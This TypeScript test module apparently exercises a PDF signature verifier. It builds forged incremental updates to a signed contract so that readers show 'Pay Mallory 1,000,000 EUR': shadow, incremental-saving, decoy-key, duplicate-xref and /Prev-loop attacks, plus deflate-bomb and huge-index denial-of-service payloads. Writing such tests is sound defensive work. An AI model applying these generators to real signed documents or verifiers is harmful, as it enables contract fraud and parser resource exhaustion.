// Adversarial incremental updates for /v1/verify: each function takes a PDF Signet
// signed and appends bytes the way an attacker would, by hand, so the update can be malformed in
// exactly one chosen way. The document before signing (contractPdf) says "Pay Bob 100 EUR"; the
// attacks make readers show "Pay Mallory 1,000,000 EUR".
import { deflateSync } from "node:zlib";
import { PDF, PdfArray, PdfDict, PdfRef, type PdfStream } from "@libpdf/core";
import { type PDFArray, PDFDocument, PDFName, PDFRef, StandardFonts } from "pdf-lib";
import { trailerOf } from "#domain/pdf/libpdf-internals.ts";

/** FORGED_TEXT is what the attacks make a reader show. */
export const FORGED_TEXT = "Pay Mallory 1,000,000 EUR";

/** ContractOptions shapes the document before it is signed. */
export interface ContractOptions {
  /** A page /Annots entry referring to this object number, which the document does not define. */
  danglingAnnot?: number;
  /** A second /Contents element referring to this object number, which the document does not define. */
  danglingContents?: number;
  /** Unreferenced "shadow" objects: a content stream and a catalog with its own page tree showing FORGED_TEXT, and a hidden overlay annotation. */
  shadow?: boolean;
  /** A forged cross-reference section hidden in an unreferenced stream (for prevIntoSignedBytes). */
  forgedSection?: boolean;
}

/** contractPdf is a one-page "Pay Bob 100 EUR" document with a text field "name" (classic xref table, which pyHanko reads). */
export async function contractPdf(options: ContractOptions = {}): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText("Pay Bob 100 EUR", { x: 60, y: 700, size: 24, font });
  doc.getForm().createTextField("name").addToPage(page, { x: 60, y: 500, width: 200, height: 24 });
  const { context } = doc;
  const annots = page.node.Annots();
  if (options.danglingAnnot !== undefined) annots?.push(PDFRef.of(options.danglingAnnot));
  if (options.danglingContents !== undefined) {
    page.node.normalize();
    (page.node.Contents() as PDFArray).push(PDFRef.of(options.danglingContents));
  }
  if (options.shadow) {
    // (the forged-section variant is appended after saving, below)
    const fontRef = (page.node.Resources()!.lookup(PDFName.of("Font")) as unknown as { entries(): [PDFName, PDFRef][] }).entries()[0]!;
    const shadowContent = context.register(context.stream(`BT /${fontRef[0].decodeText()} 24 Tf 60 700 Td (${FORGED_TEXT}) Tj ET`));
    const shadowPages = context.nextRef();
    const shadowPage = context.register(
      context.obj({
        Type: "Page",
        Parent: shadowPages,
        MediaBox: [0, 0, 595, 842],
        Contents: shadowContent,
        Resources: { Font: { [fontRef[0].decodeText()]: fontRef[1] } },
      }),
    );
    context.assign(shadowPages, context.obj({ Type: "Pages", Kids: [shadowPage], Count: 1 }));
    context.register(context.obj({ Type: "Catalog", Pages: shadowPages }));
    // A white box over the amount, hidden (/F 2) when signed.
    const cover = context.register(context.stream("1 1 1 rg 0 0 300 40 re f", { Type: "XObject", Subtype: "Form", BBox: [0, 0, 300, 40] }));
    const overlay = context.register(context.obj({ Type: "Annot", Subtype: "Square", Rect: [55, 690, 355, 730], F: 2, AP: { N: cover } }));
    annots?.push(overlay);
  }
  const saved = Buffer.from(await doc.save({ useObjectStreams: false }));
  return options.forgedSection ? withForgedSection(saved) : saved;
}

const FORGED_MARK = "%forged-section";

/**
 * withForgedSection appends, before signing, an unreferenced stream object whose data holds a
 * complete forged revision: the page content object redefined and a cross-reference table for it
 * (chained to the real one). Readers of the signed file never see it; an update whose /Prev points
 * into it makes them (prevIntoSignedBytes).
 */
async function withForgedSection(saved: Buffer): Promise<Buffer> {
  const t = await inspect(saved);
  const prefix = `\n${t.size + 100} 0 obj\n<< /Length `;
  const head = (data: string) => `${prefix}${data.length} >>\nstream\n`;
  // Two passes: the offsets inside the data depend on the header's length digits, which do not change.
  let data = "";
  for (let pass = 0; pass < 2; pass++) {
    const base = saved.length + head(data).length;
    const object = `${t.content.objectNumber} 0 obj\n${forgedContent(t).toString("latin1")}\nendobj\n`;
    data = `${object}${FORGED_MARK}\nxref\n${t.content.objectNumber} 1\n${pad(base, 10)} 00000 n\r\ntrailer\n<< /Size ${t.size} /Root ${t.root.objectNumber} 0 R /Prev ${t.startxref} >>\n`;
  }
  return Buffer.concat([saved, Buffer.from(`${head(data)}${data}\nendstream\nendobj\n`, "latin1")]);
}

/** prevIntoSignedBytes points an update's /Prev at the forged section hidden inside the signed bytes. */
export function prevIntoSignedBytes(t: Target): Buffer {
  const at = t.bytes.indexOf(`${FORGED_MARK}\nxref`, 0, "latin1") + FORGED_MARK.length + 1;
  return appendUpdate(t, [], { prev: at });
}

/** Target is what an attack needs to know about the signed file. */
export interface Target {
  bytes: Buffer;
  startxref: number;
  size: number;
  root: PdfRef;
  page: PdfRef;
  /** The page's (first) content stream. */
  content: PdfRef;
  /** The name of the page's font resource. */
  fontName: string;
  /** Objects of the signed revision, by "num gen" (for the shadow attacks). */
  pdf: PDF;
}

/** inspect reads what the attacks need from a signed file (libpdf; the files here are honest until attacked). */
export async function inspect(bytes: Buffer): Promise<Target> {
  const pdf = await PDF.load(bytes);
  const trailer = trailerOf(pdf);
  const text = bytes.toString("latin1");
  const startxref = Number(/startxref\s+(\d+)\s+%%EOF\s*$/.exec(text)![1]);
  const page = pdf.getPages()[0]!;
  const resolve = (ref: PdfRef) => pdf.getObject(ref);
  const contents = page.dict.get("Contents");
  const content = (contents instanceof PdfArray ? contents.at(0) : contents) as PdfRef;
  const fonts = page.dict.getDict("Resources", resolve)!.getDict("Font", resolve)!;
  return {
    bytes,
    startxref,
    size: (trailer.get("Size") as unknown as { value: number }).value,
    root: trailer.get("Root") as PdfRef,
    page: page.ref,
    content,
    fontName: [...fonts.keys()][0]!.value,
    pdf,
  };
}

/** RawObject is one object an update writes: its value as PDF text (or bytes). */
export interface RawObject {
  number: number;
  generation?: number;
  body: string | Buffer;
  /** Written inside a new object stream (xref-stream updates only). */
  compressed?: boolean;
}

/** UpdateOptions says how the update's cross-reference section is written, and how it lies. */
export interface UpdateOptions {
  /** hybrid: a table for the objects plus an /XRefStm stream holding `hybridEntries`. */
  xref?: "table" | "stream" | "hybrid";
  /** The hybrid stream's entries: object number to offset. */
  hybridEntries?: Record<number, number>;
  /** Text placed first in the trailer or xref-stream dictionary (decoy keys inside a string go here). */
  dictPrefix?: string;
  /** Extra trailer entries after the real ones. */
  dictSuffix?: string;
  /** The /Prev to write (default: the signed file's startxref). */
  prev?: number;
  /** The /Root to write (default: the signed file's). */
  root?: string;
  /** Deflate the xref stream's data. */
  deflate?: boolean;
  /** Override the xref stream's /W and /Index (default [1 4 2] and one run per object). */
  widths?: string;
  index?: string;
  /** Raw xref-stream data instead of the rows (bounded-work attacks). */
  data?: Buffer;
  /** Object numbers the table lists as free (with generation 1). */
  free?: number[];
}

/** streamBody writes a stream object's value: the dictionary (with /Length) and the data. */
export function streamBody(dict: string, data: string | Buffer): Buffer {
  const bytes = typeof data === "string" ? Buffer.from(data, "latin1") : data;
  return Buffer.concat([Buffer.from(`<< ${dict} /Length ${bytes.length} >>\nstream\n`, "latin1"), bytes, Buffer.from("\nendstream", "latin1")]);
}

/** forgedContent is a content stream body drawing FORGED_TEXT with the page's font. */
function forgedContent(target: Target): Buffer {
  return streamBody("", `BT /${target.fontName} 24 Tf 60 650 Td (${FORGED_TEXT}) Tj ET`);
}

const pad = (value: number, width: number) => String(value).padStart(width, "0");

type Entry = { offset: number; generation: number } | { stream: number; index: number };

/** xrefRow is one 7-byte cross-reference stream row (/W [1 4 2]). */
function xrefRow(entry: Entry): Buffer {
  const row = Buffer.alloc(7);
  if ("offset" in entry) {
    row[0] = 1;
    row.writeUInt32BE(entry.offset, 1);
    row.writeUInt16BE(entry.generation, 5);
  } else {
    row[0] = 2;
    row.writeUInt32BE(entry.stream, 1);
    row.writeUInt16BE(entry.index, 5);
  }
  return row;
}

/** UpdateWriter writes one incremental update after `base`, keeping the offset of each object it writes. */
class UpdateWriter {
  readonly parts: Buffer[];
  at: number;
  readonly offsets = new Map<number, Entry>();

  constructor(
    base: Buffer,
    public size: number,
  ) {
    this.parts = [base, Buffer.from("\n", "latin1")];
    this.at = base.length + 1;
  }

  write(chunk: string | Buffer): void {
    const bytes = typeof chunk === "string" ? Buffer.from(chunk, "latin1") : chunk;
    this.parts.push(bytes);
    this.at += bytes.length;
  }

  /** object writes `number generation obj ... endobj` at the current offset and records it. */
  object(number: number, generation: number, body: string | Buffer): void {
    this.offsets.set(number, { offset: this.at, generation });
    this.write(`${number} ${generation} obj\n`);
    this.write(body);
    this.write("\nendobj\n");
  }

  /** objectStream writes the compressed objects into one new object stream. */
  objectStream(compressed: RawObject[]): void {
    const objStm = this.size++;
    let header = "";
    let body = "";
    compressed.forEach((object, index) => {
      header += `${object.number} ${body.length} `;
      body += `${object.body.toString()}\n`;
      this.offsets.set(object.number, { stream: objStm, index });
    });
    this.object(objStm, 0, streamBody(`/Type /ObjStm /N ${compressed.length} /First ${header.length}`, header + body));
  }

  /** hybridStream writes a hybrid file's cross-reference stream (/XRefStm) with the given entries; its trailer key. */
  hybridStream(hybridEntries: Record<number, number>): string {
    const self = this.size++;
    const streamAt = this.at;
    const entries = Object.entries(hybridEntries).map(([number, offset]) => [Number(number), offset] as const);
    const rows = entries.map(([, offset]) => xrefRow({ offset, generation: 0 }));
    this.object(
      self,
      0,
      streamBody(`/Type /XRef /Size ${this.size} /W [1 4 2] /Index [${entries.map(([number]) => `${number} 1`).join(" ")}]`, Buffer.concat(rows)),
    );
    return ` /XRefStm ${streamAt}`;
  }

  /** table writes a classic cross-reference table and its trailer. */
  table(options: UpdateOptions, trailerKeys: string): void {
    let table = "xref\n";
    const numbers = [...this.offsets.keys(), ...(options.free ?? [])].sort((a, b) => a - b);
    for (const number of numbers) {
      const entry = this.offsets.get(number);
      table += `${number} 1\n`;
      if (!entry) table += `${pad(0, 10)} ${pad(1, 5)} f\r\n`;
      else if ("offset" in entry) table += `${pad(entry.offset, 10)} ${pad(entry.generation, 5)} n\r\n`;
    }
    this.write(table);
    this.write(`trailer\n<< ${options.dictPrefix ?? ""} /Size ${this.size} ${trailerKeys} ${options.dictSuffix ?? ""} >>\n`);
  }

  /** stream writes a cross-reference stream (which lists itself) carrying the trailer keys. */
  stream(options: UpdateOptions, trailerKeys: string): void {
    const self = this.size++;
    this.offsets.set(self, { offset: this.at, generation: 0 });
    const numbers = [...this.offsets.keys()].sort((a, b) => a - b);
    let data = options.data ?? Buffer.concat(numbers.map((number) => xrefRow(this.offsets.get(number)!)));
    if (options.deflate) data = deflateSync(data);
    const index = options.index ?? numbers.map((number) => `${number} 1`).join(" ");
    const dict = `${options.dictPrefix ?? ""} /Type /XRef /Size ${this.size} /W ${options.widths ?? "[1 4 2]"} /Index [${index}] ${trailerKeys}${options.deflate ? " /Filter /FlateDecode" : ""} ${options.dictSuffix ?? ""}`;
    this.write(`${self} 0 obj\n`);
    this.write(streamBody(dict, data));
    this.write("\nendobj\n");
  }
}

/**
 * appendUpdate appends an incremental update: the objects, then a cross-reference table or
 * stream and trailer as the options say, then startxref and %%EOF.
 */
export function appendUpdate(target: Target | Buffer, objects: RawObject[], options: UpdateOptions = {}, info?: Target): Buffer {
  const base = Buffer.isBuffer(target) ? target : target.bytes;
  const t = Buffer.isBuffer(target) ? info! : target;
  const writer = new UpdateWriter(base, Math.max(t.size, ...objects.map((object) => object.number + 1)));
  for (const object of objects.filter((candidate) => !candidate.compressed)) writer.object(object.number, object.generation ?? 0, object.body);
  const compressed = objects.filter((object) => object.compressed);
  if (compressed.length > 0) writer.objectStream(compressed);
  const prev = options.prev ?? t.startxref;
  const root = options.root ?? `${t.root.objectNumber} ${t.root.generation} R`;
  const xrefStm = options.xref === "hybrid" ? writer.hybridStream(options.hybridEntries ?? {}) : "";
  const xrefAt = writer.at;
  if ((options.xref ?? "table") !== "stream") writer.table(options, `/Root ${root} /Prev ${prev}${xrefStm}`);
  else writer.stream(options, `/Root ${root} /Prev ${prev}`);
  writer.write(`startxref\n${xrefAt}\n%%EOF\n`);
  return Buffer.concat(writer.parts);
}

/** objectText is an object of the signed revision written back as PDF text, with some entries replaced (libpdf's own serialisation). */
function rewriteDict(target: Target, ref: PdfRef, replace: Record<string, string>): string {
  const object = target.pdf.getObject(ref) as PdfDict;
  const entries = [...object.keys()].filter((key) => !(key.value in replace)).map((key) => `/${key.value} ${serialise(object.get(key.value))}`);
  return `<< ${entries.join(" ")} ${Object.entries(replace)
    .map(([key, value]) => `/${key} ${value}`)
    .join(" ")} >>`;
}

function serialise(value: unknown): string {
  if (value instanceof PdfRef) return `${value.objectNumber} ${value.generation} R`;
  if (value instanceof PdfArray) return `[${value.toArray().map(serialise).join(" ")}]`;
  if (value instanceof PdfDict) return `<< ${[...value.keys()].map((key) => `/${key.value} ${serialise(value.get(key.value))}`).join(" ")} >>`;
  const object = value as { type?: string; value?: unknown; bytes?: Uint8Array; constructor: { name: string } };
  const name = object.constructor.name;
  if (name === "PdfName") return `/${String(object.value)}`;
  if (name === "PdfNumber" || name === "PdfBool") return String(object.value);
  if (name === "PdfString") return `<${Buffer.from(object.bytes!).toString("hex")}>`;
  if (name === "PdfNull") return "null";
  throw new Error(`cannot serialise ${name}`);
}

/** findObject returns the first object of the signed revision a predicate accepts. */
function findObject(target: Target, accept: (object: PdfDict | PdfStream) => boolean): PdfRef {
  for (let number = 1; number < target.size; number++) {
    const ref = PdfRef.of(number, 0);
    const object = target.pdf.getObject(ref);
    if (object instanceof PdfDict && accept(object)) return ref;
  }
  throw new Error("no such object");
}

// The attacks. Each returns the attacked file.

/** replaceContent is the incremental saving attack: the page's content stream redefined, with an honest cross-reference section. */
export const replaceContent = (t: Target, options: UpdateOptions = {}) =>
  appendUpdate(t, [{ number: t.content.objectNumber, body: forgedContent(t) }], options);

/** decoyKey hides a decoy for one key inside a string placed before the real key (case 1). */
export function decoyKey(t: Target, key: "Index" | "W" | "Prev" | "Size" | "Root" | "XRefStm", xref: "table" | "stream"): Buffer {
  const decoys: Record<typeof key, string> = {
    Index: "(/Index [0 0])",
    W: "(/W [0 0 0])",
    Prev: "(/Prev 0)",
    Size: "(/Size 1)",
    Root: `(/Root ${t.root.objectNumber + 1000} 0 R)`,
    XRefStm: "(/XRefStm 0)",
  };
  return replaceContent(t, { xref, dictPrefix: `/Note ${decoys[key]}` });
}

/** generationChange defines `n 1 obj` for the page content `n 0 R` (case 3). */
export const generationChange = (t: Target, xref: "table" | "stream" = "table") =>
  appendUpdate(t, [{ number: t.content.objectNumber, generation: 1, body: forgedContent(t) }], { xref });

/** stampAnnotation is an annotation painting FORGED_TEXT over the amount, with its appearance stream object. */
function stampAnnotation(t: Target, annot: number, appearance: number): RawObject[] {
  return [
    { number: annot, body: `<< /Type /Annot /Subtype /Stamp /Rect [55 640 455 730] /F 4 /AP << /N ${appearance} 0 R >> >>` },
    {
      number: appearance,
      body: streamBody(
        `/Type /XObject /Subtype /Form /BBox [0 0 400 90] /Resources << /Font << /${t.fontName} ${fontRef(t)} >> >>`,
        `1 1 1 rg 0 0 400 90 re f 0 g BT /${t.fontName} 24 Tf 5 10 Td (${FORGED_TEXT}) Tj ET`,
      ),
    },
  ];
}

function fontRef(t: Target): string {
  const resolve = (ref: PdfRef) => t.pdf.getObject(ref);
  const page = t.pdf.getObject(t.page) as PdfDict;
  const font = page.getDict("Resources", resolve)!.getDict("Font", resolve)!.get(t.fontName);
  return serialise(font);
}

/** danglingAnnot defines the object the signed page's /Annots already named (case 4). */
export const danglingAnnot = (t: Target, number = 900, xref: "table" | "stream" = "table") =>
  appendUpdate(t, stampAnnotation(t, number, t.size + 50), { xref });

/** danglingContents defines the dangling second /Contents element of the signed page (case 4). */
export const danglingContents = (t: Target, number = 901) =>
  appendUpdate(t, [{ number, body: streamBody("", `1 1 1 rg 55 690 300 40 re f 0 g BT /${t.fontName} 24 Tf 60 650 Td (${FORGED_TEXT}) Tj ET`) }]);

/** zeroWidthEntries is an xref stream with /W [0 0 0] and a huge /Index (case 5), optionally behind a decoy. */
export const zeroWidthEntries = (t: Target, count: number, decoy = false) =>
  appendUpdate(t, [], {
    xref: "stream",
    widths: "[0 0 0]",
    index: `1 ${count}`,
    data: Buffer.alloc(0),
    ...(decoy ? { dictPrefix: "/Note (/W [1 4 2] /Index [0 0])" } : {}),
  });

/** inflateBomb is an xref stream whose few hundred KB inflate to `megabytes` MB (case 5). */
export function inflateBomb(t: Target, megabytes: number): Buffer {
  return appendUpdate(t, [], {
    xref: "stream",
    data: Buffer.alloc(megabytes * 1024 * 1024),
    deflate: true,
    index: `0 ${Math.floor((megabytes * 1024 * 1024) / 7)}`,
  });
}

/** objectStreamBomb is an object stream whose few hundred KB inflate to `megabytes` MB, used by an xref-stream entry (case 5). */
export function objectStreamBomb(t: Target, megabytes: number): Buffer {
  const objStm = t.size;
  const inside = t.size + 5;
  const data = deflateSync(Buffer.concat([Buffer.from(`${inside} 0 `, "latin1"), Buffer.alloc(megabytes * 1024 * 1024, 0x20)]));
  const rows = Buffer.alloc(14);
  rows[0] = 1;
  rows.writeUInt32BE(t.bytes.length + 1, 1);
  rows[7] = 2;
  rows.writeUInt32BE(objStm, 8);
  return appendUpdate(t, [{ number: objStm, body: streamBody(`/Type /ObjStm /N 1 /First ${`${inside} 0 `.length} /Filter /FlateDecode`, data) }], {
    xref: "stream",
    data: rows,
    index: `${objStm} 1 ${inside} 1`,
  });
}

/** manyUpdates appends `count` small updates, each rewriting the document information dictionary (an LTA-level change). */
export async function manyUpdates(t: Target, count: number): Promise<Buffer> {
  const chunks: Buffer[] = [t.bytes];
  let length = t.bytes.length;
  let prev = t.startxref;
  const info = t.size;
  const root = `${t.root.objectNumber} ${t.root.generation} R`;
  for (let update = 0; update < count; update++) {
    const objectAt = length + 1;
    const object = `\n${info} 0 obj\n<< /Title (Update ${update}) >>\nendobj\n`;
    const xrefAt = length + object.length;
    const tail = `xref\n${info} 1\n${pad(objectAt, 10)} 00000 n\r\ntrailer\n<< /Size ${info + 1} /Root ${root} /Info ${info} 0 R /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`;
    const chunk = Buffer.from(object + tail, "latin1");
    chunks.push(chunk);
    length += chunk.length;
    prev = xrefAt;
  }
  return Buffer.concat(chunks);
}

/** shadowReplace points the page's /Contents at the shadow content stream already in the signed revision. */
export function shadowReplace(t: Target): Buffer {
  const shadow = findObject(
    t,
    (object) =>
      "data" in object &&
      Buffer.from((object as PdfStream).data)
        .toString("latin1")
        .includes("Mallory"),
  );
  return appendUpdate(t, [{ number: t.page.objectNumber, body: rewriteDict(t, t.page, { Contents: `${shadow.objectNumber} 0 R` }) }]);
}

/** shadowHideAndReplace points the trailer's /Root at the shadow catalog (its own page tree showing FORGED_TEXT). */
export function shadowHideAndReplace(t: Target, via: "trailer" | "pages" = "trailer"): Buffer {
  const catalog = findObject(t, (object) => object.getName("Type")?.value === "Catalog" && !object.has("AcroForm"));
  if (via === "trailer") return appendUpdate(t, [], { root: `${catalog.objectNumber} 0 R` });
  const pages = (t.pdf.getObject(catalog) as PdfDict).get("Pages") as PdfRef;
  return appendUpdate(t, [{ number: t.root.objectNumber, body: rewriteDict(t, t.root, { Pages: `${pages.objectNumber} 0 R` }) }]);
}

/** newCatalog writes a new catalog object (the trailer's /Root) keeping the form but showing the shadow page tree. */
export function newCatalog(t: Target): Buffer {
  const shadowCatalog = findObject(t, (object) => object.getName("Type")?.value === "Catalog" && !object.has("AcroForm"));
  const pages = (t.pdf.getObject(shadowCatalog) as PdfDict).get("Pages") as PdfRef;
  const number = t.size + 30;
  return appendUpdate(t, [{ number, body: rewriteDict(t, t.root, { Pages: `${pages.objectNumber} 0 R` }) }], { root: `${number} 0 R` });
}

/** shadowHide makes the hidden white overlay annotation of the signed revision visible (/F 4). */
export function shadowHide(t: Target): Buffer {
  const overlay = findObject(t, (object) => object.getName("Subtype")?.value === "Square");
  return appendUpdate(t, [{ number: overlay.objectNumber, body: rewriteDict(t, overlay, { F: "4" }) }]);
}

/** objectStreamRedefinition redefines the page inside a new object stream (type 2 entries), its /Contents a new forged stream. */
export function objectStreamRedefinition(t: Target): Buffer {
  const forged = t.size + 20;
  return appendUpdate(
    t,
    [
      { number: t.page.objectNumber, body: rewriteDict(t, t.page, { Contents: `${forged} 0 R` }), compressed: true },
      { number: forged, body: forgedContent(t) },
    ],
    { xref: "stream" },
  );
}

/** trailingObjects appends an object after the last %%EOF with no cross-reference section (what a repairing reader picks up). */
export const trailingObjects = (t: Target) =>
  Buffer.concat([t.bytes, Buffer.from(`\n${t.content.objectNumber} 0 obj\n`, "latin1"), forgedContent(t), Buffer.from("\nendobj\n", "latin1")]);

/** duplicateInSection lists the page content twice in the update's table (readers take the first or the last). */
export function duplicateInSection(t: Target): Buffer {
  const first = appendUpdate(t, [{ number: t.content.objectNumber, body: forgedContent(t) }]);
  const text = first.toString("latin1");
  const at = text.lastIndexOf("\nxref\n") + 1;
  const entry = /\n(\d+) 1\n(\d{10} \d{5} n\r\n)/.exec(text.slice(at))!;
  // The first entry points at the object's signed definition (a real "n 0 obj"), the second at the
  // forged one: the table is well-formed, only ambiguous, and which definition a reader takes
  // decides what it shows (pyHanko takes the last).
  const signedDefinition = t.bytes.toString("latin1").lastIndexOf(`\n${t.content.objectNumber} 0 obj`) + 1;
  const doubled = `xref\n${entry[1]} 1\n${pad(signedDefinition, 10)} 00000 n\r\n${entry[1]} 1\n${entry[2]}`;
  const rewritten = text.slice(0, at) + doubled + text.slice(at + `xref\n${entry[1]} 1\n${entry[2]}`.length);
  // The startxref still points at the table (same offset).
  return Buffer.from(rewritten, "latin1");
}

/** prevLoop makes the update's /Prev point at its own section. */
export function prevLoop(t: Target): Buffer {
  const xrefAt = replaceContent(t).toString("latin1").lastIndexOf("\nxref\n") + 1;
  return replaceContent(t, { prev: xrefAt });
}
